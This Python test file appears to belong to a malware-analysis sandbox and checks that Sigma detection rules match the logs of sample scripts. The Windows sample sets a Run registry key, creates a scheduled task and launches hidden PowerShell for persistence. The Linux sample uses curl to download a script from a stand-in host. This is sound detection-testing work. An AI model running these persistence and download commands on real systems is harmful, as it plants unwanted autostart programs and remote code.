"""Sigma rules over accounts of machines: the fields that rules compare are as real logs have them."""

from __future__ import annotations

import pytest

from lazaretto.analysis.behaviours import SampleFacts
from lazaretto.testing.sigma_play import rule, rules

RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
BATCH = rf"""
reg add {RUN} /v Updater /d C:\Users\Public\u.exe /f
schtasks /create /sc daily /tn Updater /tr C:\Users\Public\u.exe
powershell -nop -w hidden -c "Write-Host (Get-Date)"
echo content> C:\Users\Public\u.bat
"""
WINDOWS = {
    "program": r"s: {Image: 'C:\Windows\System32\reg.exe', CommandLine|contains|windash: ' -v updater'}",
    "parent": r"s: {Image|endswith: '\schtasks.exe', OriginalFileName: schtasks.exe, ParentImage|endswith: '\cmd.exe'}",
    "directory": r"s: {CurrentDirectory|re|i: '^C:\\Users\\[a-z]+\\Downloads\\$', CommandLine|contains: schtasks}",
    "registry_set": r"s: {TargetObject|endswith: '\CurrentVersion\Run\Updater', Details|endswith: '\u.exe'}",
    "file_event": r"s: {TargetFilename: 'C:\Users\Public\u.bat', Image|endswith: '\cmd.exe'}",
    "ps_script": "s: {ScriptBlockText|contains: get-date}",
}
NOT = r"s: {Image|endswith: '\cmd.exe', CommandLine|contains: sample.bat}"  # the sample's own start
SHELL = """
id
echo content > /tmp/x.sh
curl -s http://a.example/b.sh -o /tmp/b.sh
"""
LINUX = {
    "program": "s: {Image|endswith: /id, ParentImage|endswith: [/dash, /bash, /sh], User: root}",
    "file_event": "s: {TargetFilename: /tmp/x.sh}",
    "dns_query": "s: {QueryName: a.example, Image|endswith: /curl}",
    "network_connection": "s: {DestinationHostname|endswith: .example, DestinationPort: 80, Initiated: 'true'}",
    "proxy": "s: {c-uri|endswith: /b.sh, c-useragent|startswith: curl/, cs-method: GET}",
}


def titles(observed, searches, product, name):
    """The titles of those of the rules that find something."""
    categories = {"program", "parent", "directory", "never"}
    texts = [
        rule(
            f"{search}\ncondition: s\n", category="process_creation" if title in categories else title, product=product
        ).replace("title: A rule", f"title: {title}")
        for title, search in searches.items()
    ]
    sigma = rules(*texts)
    assert sigma.refused == ()
    return {evidence.title for evidence in sigma.match(observed.trace, SampleFacts(name)).evidence}


@pytest.mark.machine("windows")
def test_windows(windows, programs):
    observed = windows(programs.file("sample.bat", BATCH.replace("\n", "\r\n")), "bat")
    assert titles(observed, {**WINDOWS, "never": NOT}, "windows", "sample.bat") == set(WINDOWS), observed.story()


@pytest.mark.machine("linux")
def test_linux(linux, programs):
    observed = linux(programs.file("sample.sh", SHELL), "sh")
    assert titles(observed, LINUX, "linux", "sample.sh") == set(LINUX), observed.story()
